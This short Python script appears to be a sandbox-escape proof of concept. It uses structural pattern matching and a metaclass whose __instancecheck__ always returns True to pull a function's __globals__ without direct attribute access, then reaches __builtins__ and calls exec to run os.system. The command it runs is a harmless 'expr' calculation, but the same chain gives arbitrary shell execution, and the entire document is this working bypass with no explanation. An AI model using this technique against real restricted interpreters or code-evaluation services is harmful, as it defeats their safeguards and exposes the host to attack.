class P:
    __match_args__=("__globals__",)
def f(): pass
class M(type):
    def __instancecheck__(c,o): return True
class Q(metaclass=M):
    __match_args__=("__globals__",)
match f:
    case Q(g): g["__builtins__"].exec("import os;os.system('expr 40 + 1001')")
